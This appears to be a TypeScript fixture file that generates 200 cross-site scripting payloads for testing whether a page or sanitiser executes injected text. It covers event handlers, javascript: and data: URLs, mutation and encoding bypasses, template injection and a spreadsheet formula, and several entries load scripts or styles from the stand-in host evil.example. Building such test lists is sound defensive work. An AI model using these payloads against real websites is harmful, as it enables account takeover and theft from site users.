/**
 * Two hundred texts that run a script where a page takes text for anything but text. Each calls `ran('NUMBER')`, so that whoever runs is
 * known; those that load something ask for `evil.example`.
 */

/** What is wanted to run, in the place of `@`. */
const elements = [
  '<script>@</script>',
  '<ScRiPt >@</sCrIpT >',
  '<script/x>@</script>',
  '<script src="data:text/javascript,@"></script>',
  '<script src=//evil.example/x.js></script>',
  '<script type=module>@</script>',
  '<img src=x onerror=@>',
  '<img/src=x/onerror=@>',
  '<img src="x` `"onerror=@>',
  '<IMG SRC=x ONERROR\n=\n"@">',
  '<svg onload=@>',
  '<svg><script>@</script></svg>',
  '<svg><animate onbegin=@ attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=@>#x"></svg>',
  '<svg><style><img src=x onerror=@></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=@>',
  '<body onload=@>',
  '<iframe srcdoc="<script>parent.@</script>"></iframe>',
  '<iframe src="javascript:parent.@"></iframe>',
  '<object data="javascript:parent.@"></object>',
  '<embed src="javascript:parent.@">',
  '<video><source onerror=@></video>',
  '<audio src=x onerror=@></audio>',
  '<details open ontoggle=@>x</details>',
  '<input autofocus onfocus=@>',
  '<select autofocus onfocus=@></select>',
  '<textarea autofocus onfocus=@></textarea>',
  '<div tabindex=1 autofocus onfocus=@>x</div>',
  '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=@>x</b>',
  '<form><button formaction="javascript:@">x</button></form>',
  '<a href="javascript:@">x</a>',
  '<meta http-equiv=refresh content="0;url=javascript:@">',
  '<link rel=stylesheet href=//evil.example/x.css onload=@ onerror=@>',
  '<base href=//evil.example/>',
  '<template><script>@</script></template><x-a is=x onclick=@>',
  '<noscript><p title="</noscript><img src=x onerror=@>"></noscript>',
] as const;

/** Ends what a careless page may have put around the text. */
const endings = ['', '">', "'>", '</script>', '</title></textarea></style>-->'] as const;

const others = [
  'javascript:@',
  'JaVaScRiPt:@',
  'java\tscript:@',
  'javascript://%0a@',
  'javascript&colon;@',
  'data:text/html,<script>parent.@</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKDEpPC9zY3JpcHQ+',
  'vbscript:@',
  '//evil.example/x.js',
  'https://evil.example/?x=@',
  '" onmouseover="@" x="',
  "' autofocus onfocus='@' x='",
  '` onfocus=`@` autofocus x=`',
  "');@;//",
  '");@;//',
  '`;@;//',
  '\\");@;//',
  '{{constructor.constructor("@")()}}',
  '{{@}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the template is for a page that would be careless
  '${@}',
  '#{@}',
  '<%= @ %>',
  '$t(shell:title, {"x": "@"})',
  '{{- @ }}',
  '＜script＞@＜/script＞',
  '\u202e<script>@</script>\u202c',
  '<\u200bscript>@</script>',
  '<scr\u00adipt>@</script>',
  '%3Cscript%3E@%3C%2Fscript%3E',
  '&lt;script&gt;@&lt;/script&gt;',
  '&#60;img src=x onerror=@&#62;',
  '\\x3cscript\\x3e@\\x3c/script\\x3e',
  '\\u003cscript\\u003e@\\u003c/script\\u003e',
  '+ADw-script+AD4-@+ADw-/script+AD4-',
  '<!--[if gte IE 4]><script>@</script><![endif]-->',
  '<![CDATA[<script>@</script>]]>',
  ';background:url(javascript:@)',
  'x;}</style><img src=x onerror=@>',
  '<style>@import "//evil.example/x.css";</style>',
  '<b style="background:url(//evil.example/x.png)">x</b>',
  '[x](javascript:@)',
  '__proto__[innerHTML]=<img src=x onerror=@>',
  '=HYPERLINK("javascript:@";"x")',
] as const;

/** `@import` and `@keyframes` are words of CSS. */
export const payloads: readonly string[] = [...others, ...endings.flatMap((ending) => elements.map((element) => `${ending}${element}`))]
  .slice(0, 200)
  .map((template, number) => template.replaceAll(/@(?!import|keyframes)/g, `ran('${number}')`));
